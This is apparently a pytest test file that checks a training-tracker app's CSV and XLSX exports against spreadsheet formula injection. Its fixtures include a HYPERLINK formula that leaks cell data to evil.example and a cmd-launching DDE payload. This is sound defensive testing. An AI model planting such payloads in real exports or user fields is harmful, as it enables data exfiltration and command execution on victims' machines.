"""Every spreadsheet people download (matrix CSV and XLSX, evidence CSV, audit CSV) shows text as text: a cell that
would start a formula is neutralised, XLSX cells are typed (dates, numbers, text) and never formulas, and every CSV
starts with a UTF-8 byte-order mark."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import load_workbook

from tests import factories
from tracker.extensions import db
from tracker.models import AuditEvent, Role
from tracker.services.organisation import assignments
from tracker.services.reporting import cells

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
DANGEROUS = {
    "name": HYPERLINK,
    "team": "+cmd|' /C calc'!A0",
    "job_role": "-2+3",
    "email_local": "@SUM(1+1)",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def org(app, make_user):
    boss = make_user(Role.MANAGER, name="Boss")
    team = factories.make_team(DANGEROUS["team"], manager=boss)
    course = factories.make_course("cells-course")
    mallory = make_user(name=HYPERLINK, email="mallory@example.org", team=team, job_role=DANGEROUS["job_role"])
    tabby = make_user(name="\tTab at the start", email="tabby@example.org", team=team, job_role="\rCR role")
    factories.complete_course(mallory, course)
    assignments.assign(None, course=course, team=team, due_on=date.today() + timedelta(days=10))
    db.session.commit()
    return {"boss": boss, "team": team, "course": course, "mallory": mallory, "tabby": tabby}


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    body = response.get_data()
    assert body.startswith("\ufeff".encode()), "CSV files start with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def assert_no_formula_text(values) -> None:
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_START), value


# --- the matrix ---------------------------------------------------------------------------------------------------


def test_matrix_csv_neutralises_names_teams_and_job_roles(client, login_as, org):
    login_as(org["boss"])
    rows = read_csv(client.get("/manager/export.csv"))
    header, body = rows[0], rows[1:]
    assert header[0] == "person"
    by_email = {row[1]: dict(zip(header, row, strict=True)) for row in body}
    mallory = by_email["mallory@example.org"]
    assert mallory["person"] == "'" + HYPERLINK
    assert mallory["team"] == "'" + DANGEROUS["team"]
    assert mallory["job_role"] == "'-2+3"
    assert mallory["completed_at_utc"].endswith("Z") and mallory["progress_percent"] == "100"
    tabby = by_email["tabby@example.org"]
    assert tabby["person"] == "'\tTab at the start"
    assert tabby["job_role"] == "'\rCR role"
    for row in body:
        assert_no_formula_text(row)


def test_matrix_xlsx_has_typed_cells_and_no_formula(client, login_as, org):
    login_as(org["boss"])
    response = client.get("/manager/export.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))  # not read-only: the cells' stored types are visible

    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
            assert_no_formula_text(cell.value for cell in row)

    matrix = workbook["Matrix"]
    header = [cell.value for cell in matrix[1]]
    by_email = {row[1]: dict(zip(header, row, strict=True)) for row in matrix.iter_rows(min_row=2, values_only=True)}
    mallory = by_email["mallory@example.org"]
    assert mallory["person"] == "'" + HYPERLINK
    assert mallory["team"] == "'" + DANGEROUS["team"]
    assert mallory["job_role"] == "'-2+3"
    # Dates are dates and numbers are numbers, not text.
    assert isinstance(mallory["completed_at_utc"], datetime)
    assert isinstance(mallory["due_on"], datetime)  # a date cell: openpyxl reads every date cell back as datetime
    assert mallory["due_on"].date() == date.today() + timedelta(days=10)
    assert isinstance(mallory["certificate_expires_at_utc"], datetime)
    assert mallory["progress_percent"] == 100 and isinstance(mallory["score"], int)
    assert by_email["tabby@example.org"]["person"] == "'\tTab at the start"
    assert by_email["tabby@example.org"]["score"] is None

    summary = workbook["Summary"]
    assert summary["A1"].value == "Scope"
    assert isinstance(summary["B2"].value, datetime)  # generated at
    assert summary["B3"].value == 2 and summary["B3"].data_type == "n"


# --- the evidence report and the audit log -------------------------------------------------------------------------


def test_evidence_csv_neutralises_names_teams_and_job_roles(client, login_as, org, make_user):
    login_as(make_user(Role.ADMIN))
    rows = read_csv(client.get("/reports/evidence.csv"))
    header, body = rows[0], rows[1:]
    records = [dict(zip(header, row, strict=True)) for row in body]
    mallory = next(r for r in records if r["email"] == "mallory@example.org")
    assert mallory["person_name"] == "'" + HYPERLINK
    assert mallory["team"] == "'" + DANGEROUS["team"]
    assert mallory["job_role"] == "'-2+3"
    assert mallory["course_title"] and mallory["completed_at_utc"].endswith("Z")
    for row in body:
        assert_no_formula_text(row)


def test_audit_csv_neutralises_every_text_column(client, make_user, login_as):
    at = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
    db.session.add(
        AuditEvent(
            at=at,
            action="cells.test",
            actor_email="@evil.example",
            target_type="=1+1",
            target_id="-1",
            details={"x": 1},
            ip_address="+203.0.113.9",
        )
    )
    db.session.commit()
    login_as(make_user(Role.ADMIN))
    rows = read_csv(client.get("/admin/audit/export.csv?action=cells.test"))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["actor_email"] == "'@evil.example"
    assert record["target_type"] == "'=1+1"
    assert record["target_id"] == "'-1"
    assert record["ip_address"] == "'+203.0.113.9"
    assert record["at_utc"] == "2026-03-01T09:00:00Z"
    for row in rows[1:]:
        assert_no_formula_text(row)


# --- the one cell writer -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_neutralised(start):
    assert cells.neutralise(start + "1+1") == "'" + start + "1+1"
    assert cells.csv_cell(start + "x") == "'" + start + "x"


def test_csv_cells_keep_plain_text_numbers_and_dates():
    assert cells.csv_cell("Ann Álvarez") == "Ann Álvarez"
    assert cells.csv_cell("a=b") == "a=b"  # only the first character starts a formula
    assert "".join(cells.csv_text(["n"], [[-5], [2.5]])) == "\ufeffn\r\n-5\r\n2.5\r\n"  # a number is a number
    assert cells.csv_cell(None) == ""
    assert cells.csv_cell(True) == "yes"
    assert cells.csv_cell(date(2026, 1, 31)) == "2026-01-31"
    assert cells.csv_cell(datetime(2026, 1, 31, 10, 0, tzinfo=UTC)) == "2026-01-31T10:00:00Z"


def test_a_long_csv_comes_in_chunks_with_one_byte_order_mark():
    chunks = list(cells.csv_text(("a", "b"), ([i, f"={i}"] for i in range(1200))))
    assert len(chunks) == 3
    text = "".join(chunks)
    assert text.count("\ufeff") == 1 and text.startswith("\ufeffa,b\r\n")
    assert "1199,'=1199\r\n" in text
